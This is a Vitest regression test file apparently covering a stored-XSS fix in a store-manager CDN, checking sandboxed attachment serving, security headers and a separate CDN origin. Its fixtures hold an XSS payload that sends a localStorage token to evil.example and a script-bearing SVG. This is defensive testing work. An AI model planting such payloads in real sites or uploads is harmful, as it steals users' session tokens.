import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createSettledStore, testApp } from '../../../test/helpers.ts';
import type { App } from '../../app.ts';
import { registerStoreJobs } from '../stores/jobs.ts';

const evilHtml = '<script>fetch("//evil.example/?t="+localStorage.getItem("token"))</script>';
const evilSvg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.length)</script></svg>';

async function upload(app: App, headers: Record<string, string>, storeDbId: number, path: string, body: string) {
  const response = await app.inject({
    method: 'PUT',
    url: `/api/v1/store-manager/stores/${storeDbId}/cdn/${path}`,
    headers: { ...headers, 'content-type': 'application/octet-stream' },
    payload: Buffer.from(body),
  });
  expect(response.statusCode).toBe(201);
}

describe('stored XSS through the CDN (issue 9)', () => {
  let app: App;
  let partner: Record<string, string>;
  let store: { id: number; storeId: string };

  beforeAll(async () => {
    const webDist = mkdtempSync(join(tmpdir(), 'sc-web-'));
    writeFileSync(
      join(webDist, 'index.html'),
      '<!doctype html><html><head><script type="module" src="/assets/index.js"></script></head><body></body></html>',
    );
    app = await testApp({ webDist });
    await registerStoreJobs(app.ctx, { work: true });
    const admin = await bearer(app, 'admin');
    partner = await bearer(app, 'partner');
    store = await createSettledStore(app, admin, 'Evil Shop');
    await upload(app, admin, store.id, 'evil.html', evilHtml);
    await upload(app, admin, store.id, 'img/evil.svg', evilSvg);
    await upload(app, admin, store.id, 'img/logo.png', 'png-bytes');
  });
  afterAll(() => app.close());

  it('serves an uploaded HTML page or SVG as a sandboxed download, never as a page of the console', async () => {
    for (const path of ['evil.html', 'img/evil.svg']) {
      const response = await app.inject({ url: `/cdn/${store.storeId}/${path}` });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('application/octet-stream');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="evil\.(html|svg)"$/);
      expect(response.headers['content-security-policy']).toMatch(/^sandbox;/);
      expect(response.headers['x-content-type-options']).toBe('nosniff');
    }
  });

  it('serves passive files inline, still sandboxed and never sniffed', async () => {
    const response = await app.inject({ url: `/cdn/${store.storeId}/img/logo.png` });
    expect(response.headers['content-type']).toBe('image/png');
    expect(response.headers['content-disposition']).toBeUndefined();
    expect(response.headers['content-security-policy']).toMatch(/^sandbox;/);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['cross-origin-resource-policy']).toBe('cross-origin');
  });

  it('sends store files byte for byte, never compressed, with their own length', async () => {
    const text = 'a line of a store file\n'.repeat(200);
    const admin = await bearer(app, 'admin');
    await upload(app, admin, store.id, 'notes.txt', text);
    await upload(app, admin, store.id, 'export.csv', text);
    for (const path of ['notes.txt', 'export.csv']) {
      const response = await app.inject({
        url: `/cdn/${store.storeId}/${path}`,
        headers: { 'accept-encoding': 'br, gzip' },
      });
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-encoding']).toBeUndefined();
      expect(response.headers['content-length']).toBe(String(text.length));
      expect(response.body).toBe(text);
    }
  });

  it('gives the console and the API strict security headers', async () => {
    for (const url of ['/', '/stores/1/gateway?ticket=abc', '/api/v1/users']) {
      const response = await app.inject({ url, headers: partner });
      const csp = response.headers['content-security-policy'];
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).not.toMatch(/script-src[^;]*unsafe/);
      expect(csp).toContain("object-src 'none'");
      expect(response.headers['referrer-policy']).toBe('no-referrer');
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(response.headers['x-frame-options']).toBe('DENY');
    }
  });
});

describe('a separate CDN origin (issue 9)', () => {
  let app: App;
  let store: { id: number; storeId: string };

  beforeAll(async () => {
    app = await testApp({ cdnPublicUrl: 'https://cdn.example.test' });
    await registerStoreJobs(app.ctx, { work: true });
    const admin = await bearer(app, 'admin');
    store = await createSettledStore(app, admin, 'Origin Shop');
    await upload(app, admin, store.id, 'evil.html', evilHtml);
  });
  afterAll(() => app.close());

  it('sends file requests on the console origin to the CDN origin', async () => {
    const response = await app.inject({ url: `/cdn/${store.storeId}/evil.html`, headers: { host: 'console.test' } });
    expect(response.statusCode).toBe(308);
    expect(response.headers.location).toBe(`https://cdn.example.test/cdn/${store.storeId}/evil.html`);
  });

  it('serves files on the CDN origin, and neither the API nor the console there', async () => {
    const file = await app.inject({ url: `/cdn/${store.storeId}/evil.html`, headers: { host: 'cdn.example.test' } });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-disposition']).toMatch(/^attachment/);
    for (const url of ['/', '/api/v1/stores', '/api/docs']) {
      const other = await app.inject({ url, headers: { host: 'cdn.example.test' } });
      expect(other.statusCode).toBe(404);
      expect(other.json().code).toBe('4041-not-found');
    }
  });
});
